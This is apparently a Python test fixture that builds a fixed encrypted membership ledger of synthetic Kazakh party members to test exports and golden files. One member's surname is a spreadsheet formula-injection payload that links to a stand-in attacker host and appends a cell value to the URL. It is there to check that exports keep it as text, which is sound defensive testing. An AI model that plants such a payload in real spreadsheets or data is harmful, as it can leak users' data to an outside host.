"""The fixed small ledger behind the golden files and the export/CLI tests: a real encrypted file.

28 members in four units (Almaty city, Astana, Abai by locality, East Kazakhstan) with one member for
each common exclusion, a duplicate pair, an initiative group of five with a committee of three (one of
them outside the group), two congress check-ins, campaign dates, and a name that looks like a formula.
Everything is fixed (IIN serials included) so the outputs are byte-for-byte stable.
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

from partyledger.ledger.storage import db
from partyledger.ledger.members.campaign import update_campaign
from partyledger.ledger.cleaning.iin import make_iin

from report.builder import check_in, give_role, insert_members, member_row, pair

PASSPHRASE = "golden-test-passphrase"
AS_OF = date(2024, 6, 1)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&C2,"click")'


def _m(n: int, born: date, unit: str, **kw) -> dict:
    sex = "F" if n % 2 else "M"
    surname = kw.pop("surname", ["Ахметов", "Сейткали", "Иванова", "Нурланова", "Omarov"][n % 5])
    given = ["Ерлан", "Айгуль", "Дамир", "Асель", "Нурлан", "Мария"][n % 6]
    return member_row(born=born, unit=unit, iin=make_iin(born, sex, 100 + n), sex=sex, surname=surname,
                      given_name=given, address=f"ул. Абая, {n}", **kw)


def sample_rows() -> list[dict]:
    rows = []
    for i in range(8):
        rows.append(_m(i, date(1980 + i, 3, 1 + i), "75", joined=date(2024, 5, 1 + i)))
    for i in range(8, 14):
        rows.append(_m(i, date(1970 + i, 4, 2), "71", joined=date(2023, 9, 1)))
    for i in range(14, 18):
        rows.append(_m(i, date(1975, 5, i), "63", locality="Семей", joined=date(2022, 1, 10)))
    rows.append(_m(18, date(1976, 6, 6), "63", locality="Усть-Каменогорск", joined=date(2022, 1, 10)))
    rows.append(_m(19, date(1990, 1, 1), "75", status="withdrawn", status_on=date(2024, 3, 1)))
    rows.append(_m(20, date(1950, 1, 1), "71", status="deceased", status_on=date(2024, 2, 1)))
    rows.append(_m(21, date(2007, 1, 1), "75"))                                   # 17 on the date
    rows.append(_m(22, date(1992, 2, 2), "75", joined=date(2024, 6, 15)))         # joins later
    rows.append(_m(23, date(1985, 7, 7), "71", citizen=False))
    rows.append(_m(24, date(1986, 8, 8), "75", surname=FORMULA_NAME))             # counts; must stay text
    rows.append(_m(25, date(1987, 9, 9), "75"))                                   # duplicate of 26
    rows.append(_m(26, date(1987, 9, 9), "75"))
    rows.append(_m(27, date(1988, 10, 10), "51"))                                 # old code, no locality
    return rows


def copy_ledger(source: Path, target: Path) -> Path:
    """A private copy of a built ledger (file and key file): cheaper than building one per test."""
    import shutil

    for suffix in ("", ".key.json"):
        shutil.copyfile(f"{source}{suffix}", f"{target}{suffix}")
    return target


def build_sample_ledger(path: Path) -> Path:
    engine = db.create_ledger(path, PASSPHRASE, party_name="Партия Тест", fast_kdf=True)
    with db.session_scope(engine) as s:
        update_campaign(s, notification_filed_on=date(2024, 1, 15), notification_confirmed_on=date(2024, 2, 1),
                        congress_held_on=date(2024, 4, 10), safety_factor=1.2)
        ids = insert_members(s, sample_rows())
        for mid in ids[0:3] + ids[8:10]:
            give_role(s, mid, "initiative_group")
        for mid in (ids[0], ids[8], ids[14]):
            give_role(s, mid, "committee")
        check_in(s, ids[0], datetime(2024, 4, 10, 9, 30))
        check_in(s, ids[8], datetime(2024, 4, 10, 9, 45))
        pair(s, ids[25], ids[26], 92.0)
    engine.dispose()
    return path
